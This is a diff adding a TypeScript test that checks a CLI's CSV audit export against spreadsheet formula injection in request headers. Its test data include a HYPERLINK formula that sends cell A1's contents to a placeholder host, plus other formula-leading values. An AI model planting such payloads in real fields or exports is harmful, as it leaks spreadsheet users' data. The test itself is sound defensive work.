@@ -330,6 +330,52 @@ describe('svc audit export --format csv', () => {
   });
 });
 
+describe('svc audit export --format csv and hostile header values', () => {
+  /** Each field of a csv record as a spreadsheet reads it: quotes undone, nothing else. */
+  function cellsAsRead(line: string): string[] {
+    return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, cell]) =>
+      cell!.startsWith('"') ? cell!.slice(1, -1).replaceAll('""', '"') : cell!,
+    );
+  }
+
+  it('when an Idempotency-Key or X-Request-Id is a formula, the csv shows no formula cell and verify --file is still ok', async () => {
+    const org = await ctx.createOrg();
+    const hostile = [
+      { idempotency: '=HYPERLINK("http://x/?"&A1,"Click")', requestId: '-1-1' },
+      { idempotency: "'=1+1", requestId: '-2-2' },
+      { idempotency: '@SUM(A1:A9)', requestId: 'plain-id' },
+    ];
+    for (const [n, { idempotency, requestId }] of hostile.entries()) {
+      const created = await ctx.request('POST', '/v1/customers', {
+        key: org.key,
+        headers: { 'idempotency-key': idempotency, 'x-request-id': requestId },
+        body: { fullName: `Formula Person ${n}`, email: `formula${n}@example.com` },
+      });
+      expect(created.statusCode, created.body).toBe(201);
+    }
+    await sealer.sealOnce();
+    const file = fileNamed('csv');
+    const result = await svc('audit', 'export', '--org', org.id, '--format', 'csv', '--out', file);
+    expect(result.code, result.stderr).toBe(0);
+    const lines = readFileSync(file, 'utf8').trimEnd().split('\n');
+    // Every record here is one line (no value holds a newline); the header first, the manifest last.
+    const cells = lines.slice(1, -1).flatMap(cellsAsRead);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    for (const { idempotency, requestId } of hostile) {
+      expect(cells).toContain(`'${idempotency}`);
+      expect(cells).toContain(requestId.startsWith('-') ? `'${requestId}` : requestId);
+    }
+    const verified = await verifyFile(file);
+    expect(verified.code, verified.stderr).toBe(0);
+    expect(JSON.parse(verified.stdout)).toMatchObject({ ok: true, org_id: org.id, format: 'csv' });
+    // The values came back as sent, and as the API shows them.
+    const events = await ctx.request('GET', '/v1/audit-events?action=customer.created', { key: org.key });
+    expect(
+      events.json().data.map((event: { idempotency_key: string; request_id: string }) => [event.idempotency_key, event.request_id]),
+    ).toEqual(hostile.map(({ idempotency, requestId }) => [idempotency, requestId]));
+  });
+});
+
 describe('svc audit export failures and verify arguments', () => {
   it('when the organisation is unknown, the export exits 1 with nothing on stdout and leaves no file behind', async () => {
     const file = fileNamed('ndjson');
